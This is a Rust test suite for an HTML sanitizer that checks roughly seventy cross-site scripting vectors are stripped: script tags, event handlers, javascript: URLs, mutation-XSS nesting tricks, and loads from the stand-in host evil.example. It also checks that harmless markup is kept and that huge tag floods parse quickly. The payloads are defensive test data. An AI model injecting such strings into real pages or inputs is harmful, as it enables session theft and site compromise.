//! What must not survive.

use super::*;

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>t</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; p { color: red }</style>",
    "<p style=\"background:url(//evil.example/x)\">text</p>",
    "<p style=\"width: expression(alert(1))\">text</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png srcset=\"//evil.example/y.png 2x\">",
    "<picture><source srcset=//evil.example/y.png></picture>",
    "<video src=//evil.example/v poster=//evil.example/p onloadstart=alert(1)></video>",
    "<audio src=//evil.example/a autoplay></audio>",
    "<a href=javascript:alert(1)>text</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">text</a>",
    "<a href=\"jav\nascript:alert(1)\">text</a>",
    "<a href=\"&#1;javascript:alert(1)\">text</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">text</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">text</a>",
    "<a href=\"vbscript:x\">text</a>",
    "<a href=\"//evil.example\">text</a>",
    "<a href=\"/\\evil.example\">text</a>",
    "<a href=\"file:///etc/passwd\">text</a>",
    "<a href=\"https://ok.example\" onclick=alert(1) target=_blank ping=//evil.example style=x>text</a>",
    "<form action=//evil.example><input name=a autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>text</button></form>",
    "<select><option>text</option></select><textarea>text</textarea>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>text</marquee>",
    "<details open ontoggle=alert(1)><summary>text</summary></details>",
    "<!--><script>alert(1)</script>-->",
    "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"//evil.example\"?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<table background=//evil.example/x><td background=//evil.example/y>text</td></table>",
    "<p id=\"q-claim\" class=\"anchor\" name=x>text</p>",
    "<mark class=\"claim\">text</mark>",
    "<span class=\"anchor\" id=\"q-x\">text</span>",
    "<div id=\"main\" data-x=1 aria-label=y role=button tabindex=0 contenteditable>text</div>",
    "<a name=\"q-x\" id=\"q-x\" href=\"#q-x\">text</a>",
    "<p lang=\"x onmouseover=alert(1)\" dir=\"evil\">text</p>",
    "<a href='https://x.example/\"onmouseover=alert(1) x=\"'>text</a>",
    "<abbr title='\"><script>alert(1)</script>'>text</abbr>",
    "<custom-element onclick=alert(1)>text</custom-element>",
    "<input type=image src=//evil.example/x>",
    "<bgsound src=//evil.example/x>",
    "<layer src=//evil.example/x></layer>",
];

/// The elements and attributes that the pages of sources may have.
fn assert_harmless(html: &str, origin: &str) {
    for raw in scan(html) {
        let Raw::Open(name, inside) = raw else { continue };
        assert!(tags::lookup(name).is_some_and(|tag| tag.name == name), "<{name}> from {origin}");
        for (attribute, value) in scan::attributes(inside) {
            let fine = match attribute {
                "href" => ["http://", "https://", "mailto:", "#fn-"].iter().any(|scheme| value.starts_with(scheme)),
                "id" => !value.starts_with("q-"),
                "class" => matches!(value, "numbered" | "fnref" | "gap" | "footnote"),
                "rel" => value == "nofollow noopener ugc",
                "lang" | "dir" => value.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
                "title" | "datetime" | "colspan" | "rowspan" | "start" => true,
                _ => false,
            };
            assert!(fine, "{attribute}={value} in <{name}> from {origin}: {html}");
        }
    }
}

#[test]
fn nothing_hostile_survives() {
    for vector in VECTORS {
        let wrapped = [
            (*vector).to_owned(),
            format!("before {vector} after"),
            format!("<table><tr>{vector}</tr></table>"),
            format!("<ul>{vector}</ul>"),
            format!("- item\n\n  {vector}\n\n| a |\n|---|\n| {vector} |"),
        ];
        for input in &wrapped {
            for text in [markdown(input), excerpted(input), SourceText::from_html(input), SourceText::from_txt(input)] {
                let blocks = html(&text.blocks(&[])).replace("[gap]", "");
                assert_well_formed(&blocks);
                assert_harmless(&blocks, input);
                let everything = 0..text.plain().len();
                assert_harmless(&html(&text.excerpts(std::slice::from_ref(&everything), &[])), input);
            }
            let own = sanitize_own(input);
            for banned in [
                "<script", "<style", "<form", "<iframe", "<input", "<svg", "<math", "<object", "<link", "<base",
                "<meta",
            ] {
                assert!(!own.contains(banned), "{own} from {input}");
            }
            for raw in scan(&own) {
                let Raw::Open(_, inside) = raw else { continue };
                for (attribute, value) in scan::attributes(inside) {
                    assert!(
                        !attribute.starts_with("on") && !matches!(attribute, "style" | "srcset" | "target"),
                        "{own}"
                    );
                    let is_address = matches!(attribute, "href" | "src");
                    assert!(!is_address || !value.contains("evil") && !value.contains("script"), "{own}");
                }
            }
        }
    }
}

#[test]
fn what_is_harmless_stays() {
    let kept = "<p lang=\"de\">a <em>b</em> <strong>c</strong> <sup>d</sup> <q>e</q> <abbr title=\"f\">g</abbr></p>";
    assert_eq!(html(&SourceText::from_html(kept).blocks(&[])), kept);
    let cells = "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>";
    assert_eq!(html(&SourceText::from_html(cells).blocks(&[])), cells);
}

#[test]
fn our_own_html_keeps_its_classes_and_local_images() {
    let own = "<figure class=\"wide\" id=\"f\"><img src=\"../static/a.png\" alt=\"A\"><figcaption>B <kbd>C</kbd></figcaption></figure>\
               <details open=\"\"><summary>D</summary><p>E</p></details><a href=\"../claims/x.html#y\">F</a>";
    assert_eq!(sanitize_own(own), own);
    for (remote, left) in [
        ("<img src=\"https://x.org/a.png\">", "<img>"),
        ("<img src=\"//x.org/a.png\">", "<img>"),
        ("<img src=\"/\\x.org/a.png\">", "<img>"),
        ("<img src=\"/\t/x.org/a.png\">", "<img>"),
        ("<img src=\"data:image/png;base64,AA\">", "<img>"),
        ("<p id=\"q-x\">a</p>", "<p>a</p>"),
        ("<p style=\"color:red\" onclick=\"x\">a</p>", "<p>a</p>"),
    ] {
        assert_eq!(sanitize_own(remote), left);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn no_mixture_is_harmful(pieces in prop::collection::vec(prop_oneof![prop::sample::select(VECTORS), prop::sample::select(RAW_PIECES), prop::sample::select(PIECES)], 0..12)) {
        let input = pieces.concat();
        for text in [markdown(&input), SourceText::from_html(&input)] {
            assert_harmless(&html(&text.blocks(&[])), &input);
        }
    }
}

#[test]
fn a_megabyte_of_start_tags_takes_no_time() {
    let many = |tag: &str| tag.repeat(1_000_000 / tag.len());
    let attributes: String = (0..100_000).map(|number| format!(" a{number}")).collect();
    let varied: String = (0..40_000).map(|number| format!("<p><b id={number}>x")).collect();
    for html in [
        many("<div>"),
        many("<b>"),
        many("<p><i>"),
        many("<x-y>"),
        many("<table>"),
        many("<table><tr><td>"),
        many("<ul><li>"),
        many("<svg>"),
        many("<form><div></form>"),
        many("<b><div></b>"),
        many("</p>"),
        format!("<p{attributes}>text"),
        varied,
    ] {
        let started = std::time::Instant::now();
        let text = SourceText::from_html(&format!("{html}<p>The end."));
        // What an open drawing holds goes with it.
        assert!(text.plain().ends_with("The end.") || html.starts_with("<svg>"), "{}", &html[..20]);
        let taken = started.elapsed();
        println!("{:?}: {taken:?}", &html[..20]);
        assert!(cfg!(debug_assertions) || taken.as_millis() < 1_500, "{taken:?} for {}", &html[..20]);
    }
}
